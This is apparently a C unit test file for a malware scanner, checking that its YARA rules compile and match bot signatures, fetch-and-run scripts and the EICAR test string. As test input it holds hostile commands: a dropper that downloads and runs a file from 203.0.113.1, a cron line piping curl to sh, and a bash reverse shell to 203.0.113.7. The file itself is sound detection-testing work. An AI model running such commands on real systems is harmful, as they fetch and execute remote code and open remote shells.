/* SPDX-License-Identifier: MIT */
/* The rules in rules/yara: all compile, each fires on what it is for, none on near misses. */
#include "unit/cmocka.h"

#include <string.h>

#include "base/buffer.h"
#include "scan/scanner.h"

static struct scanner *scanner;

static int load(void **state UNUSED)
{
	const char *paths[] = {RULES_FOLDER};

	return scanner_new(paths, 1, &scanner) ? 1 : 0;
}

static int unload(void **state UNUSED)
{
	scanner_free(scanner);
	return 0;
}

static void every_file_compiles(void **state UNUSED)
{
	size_t count;

	(void)scanner_problems(scanner, &count);
	assert_int_equal(count, 0);
	assert_true(scanner_rule_count(scanner) >= 12);
}

/* Names of the rules that match, each with a space behind it. */
static void expect(struct span bytes, const char *rules)
{
	cleanup_arena struct arena *arena = arena_new(0);
	cleanup_buffer struct buffer names = {0};
	struct scan_result result;

	assert_null(scanner_scan(scanner, bytes, NULL, 10000, arena, &result));
	for (size_t i = 0; i < result.match_count; i++)
		buffer_printf(&names, "%s ", result.matches[i].rule);
	assert_string_equal(buffer_text(&names), rules);
}

/* An ELF file's magic before the bytes. */
static void expect_elf(const char *text, size_t size, const char *rules)
{
	cleanup_buffer struct buffer file = {0};

	buffer_append(&file, "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0", 18);
	buffer_append(&file, text, size);
	expect(buffer_span(&file), rules);
}

#define EXPECT_ELF(text, rules) expect_elf((text), sizeof(text) - 1, (rules))

static void bots_are_known_by_their_idioms(void **state UNUSED)
{
	EXPECT_ELF("\0/bin/busybox MIRAI\0MIRAI: applet not found\0", "bot_mirai_idioms ");
	EXPECT_ELF("GETLOCALIP\0KILLATTK\0LOLNOGTFO\0", "bot_gafgyt_commands ");
	EXPECT_ELF("BusyBox v1.35\0applet not found\0/bin/busybox\0", "");
	expect(span_text("cp x /usr/bin/bsd-port/knerl; ln -s /etc/init.d/VsystemsshMdt"),
	       "bot_billgates ");
}

static void scripts_that_fetch_and_run_are_known(void **state UNUSED)
{
	expect(span_text("#!/bin/sh\ncd /tmp\nwget http://203.0.113.1/x; chmod 777 x; ./x; rm -rf "
			 "x\n"),
	       "dropper_script ");
	expect(span_text("#!/bin/sh\nwget https://example.org/doc.tar.gz\nchmod 755 doc\n"), "");
	expect(span_text("* * * * * curl -s http://203.0.113.1/c | sh"), "cron_or_key_planter ");
	expect(span_text("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), "shell_reverse_one_liner ");
}

static void eicar_is_known(void **state UNUSED)
{
	/* In two parts, so that this source is not found itself. */
	expect(span_text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-"
			 "ANTIVIRUS-TEST-FILE!$H+H*"),
	       "test_eicar ");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_file_compiles),
		cmocka_unit_test(bots_are_known_by_their_idioms),
		cmocka_unit_test(scripts_that_fetch_and_run_are_known),
		cmocka_unit_test(eicar_is_known),
	};

	return cmocka_run_group_tests(tests, load, unload);
}
